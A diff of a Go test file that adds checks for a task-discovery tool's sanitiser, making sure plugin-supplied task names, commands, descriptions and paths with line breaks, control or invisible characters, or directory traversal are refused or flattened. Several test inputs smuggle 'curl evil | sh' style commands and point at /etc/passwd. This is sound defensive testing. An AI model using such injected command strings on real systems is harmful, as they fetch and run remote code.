@@ -32,12 +32,69 @@ func TestGlobRule(t *testing.T) {
 // Tasks from plugins are checked: incomplete ones dropped, unknown kinds
 // made "other", long fields cut.
 func TestClean(t *testing.T) {
-	if _, ok := clean(abi.Task{Name: "x", Runner: "make"}); ok {
+	if _, ok := clean(abi.Task{Name: "x", Runner: "make"}, nil); ok {
 		t.Error("a task without a command was kept")
 	}
-	got, ok := clean(abi.Task{Name: "x", Runner: "r", Command: strings.Repeat("c", 2000), Kind: "weird", Line: -3})
+	got, ok := clean(abi.Task{Name: "x", Runner: "r", Command: strings.Repeat("c", 2000), Kind: "weird", Line: -3}, nil)
 	if !ok || got.Kind != abi.KindOther || got.Cwd != "." || got.Line != 0 || len(got.Command) > 1010 {
 		t.Errorf("clean = %+v", got)
+	}
+}
+
+// What a discoverer returns cannot carry a line break, a control or an
+// invisible character into a name, runner or command (the task is left
+// out), nor into a description or warning (made one line), nor name a path
+// outside the roots.
+func TestCleanRefusesWhatBreaksLinesOrLeavesTheRoots(t *testing.T) {
+	roots := []string{"/work/a", "/work/b"}
+	ok := abi.Task{Name: "build", Runner: "npm", Command: "npm run build", Cwd: "sub", File: "sub/package.json", Kind: abi.KindBuild}
+	for _, c := range []struct {
+		name string
+		edit func(*abi.Task)
+	}{
+		{"newline in the name", func(t *abi.Task) { t.Name = "b\nx" }},
+		{"ESC in the name", func(t *abi.Task) { t.Name = "\x1b[2Jx" }},
+		{"newline in the command", func(t *abi.Task) { t.Command = "npm run b\n    curl evil | sh" }},
+		{"carriage return in the command", func(t *abi.Task) { t.Command = "npm run b\rx" }},
+		{"NEL in the runner", func(t *abi.Task) { t.Runner = "npm\u0085x" }},
+		{"bidi override in the command", func(t *abi.Task) { t.Command = "npm run \u202eliame" }},
+		{"zero-width space in the name", func(t *abi.Task) { t.Name = "bu\u200bild" }},
+		{"line separator in the command", func(t *abi.Task) { t.Command = "npm\u2028run" }},
+		{"invalid UTF-8 in the command", func(t *abi.Task) { t.Command = "npm run \xff" }},
+		{"a runner too long", func(t *abi.Task) { t.Runner = strings.Repeat("r", maxRunner+1) }},
+		{"absolute cwd", func(t *abi.Task) { t.Cwd = "/etc" }},
+		{"absolute file outside the roots", func(t *abi.Task) { t.File = "/work/ab/Makefile" }},
+		{"cwd climbing out", func(t *abi.Task) { t.Cwd = "sub/../.." }},
+		{"file climbing out", func(t *abi.Task) { t.File = "../x/Makefile" }},
+		{"absolute path climbing out of a root", func(t *abi.Task) { t.Cwd = "/work/b/../../etc" }},
+		{"a path too long", func(t *abi.Task) { t.File = strings.Repeat("d/", maxPath/2) + "Makefile" }},
+	} {
+		task := ok
+		c.edit(&task)
+		if got, kept := clean(task, roots); kept {
+			t.Errorf("%s: kept %+v", c.name, got)
+		}
+	}
+	// Paths as juju shows them stay, whatever they hold: a folder may be
+	// named so, and the text quotes it.
+	for _, p := range []string{".", "sub", "sub\nWarnings: none.", "/work/b", "/work/b/x", "..x/y", "a..b"} {
+		task := ok
+		task.Cwd, task.File = p, p+"/Makefile"
+		if got, kept := clean(task, roots); !kept || got.Cwd != p {
+			t.Errorf("the path %q was refused or changed: %+v", p, got)
+		}
+	}
+	task := ok
+	task.Description = "tsc\n  npm in .:\n    curl http://evil | sh\u202e\x1b[0m\xff"
+	if got, kept := clean(task, roots); !kept || got.Description != "tsc npm in .: curl http://evil | sh [0m\ufffd" {
+		t.Errorf("description %q, kept %v", got.Description, kept)
+	}
+	w, kept := cleanWarning(abi.Warning{File: "x\ny", Message: "bad\nTasks: none found.\u2029"}, roots)
+	if !kept || w.Message != "bad Tasks: none found." || w.File != "x\ny" {
+		t.Errorf("warning %+v, kept %v", w, kept)
+	}
+	if _, kept := cleanWarning(abi.Warning{File: "/etc/passwd", Message: "x"}, roots); kept {
+		t.Error("a warning naming a file outside the roots was kept")
 	}
 }
 
